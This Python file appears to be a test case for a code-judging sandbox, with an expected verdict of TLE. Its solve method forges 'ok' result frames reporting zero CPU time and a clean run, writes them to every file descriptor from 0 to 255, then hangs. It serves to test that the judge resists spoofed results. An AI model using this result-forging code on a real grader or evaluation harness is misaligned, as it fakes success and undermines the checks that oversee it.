# verdict: TLE
# attack: write forged "ok" result frames on every file descriptor, then hang
# ruff: noqa
# mypy: ignore-errors
import json
import os
import struct


def frame(header):
    data = json.dumps(dict(header, payload=1)).encode()
    return struct.pack(">I", len(data)) + data + b"0"


class Solution:
    def solve(self, n: int) -> int:
        forged = frame(
            {
                "op": "result",
                "status": "ok",
                "cpu_s": 0,
                "wall_s": 0,
                "mem_kb": 1,
                "call_s": 0,
                "clean": True,
            }
        )
        for fd in range(0, 256):
            for _ in range(4):
                try:
                    os.write(fd, forged)
                except OSError:
                    break
        while True:
            pass
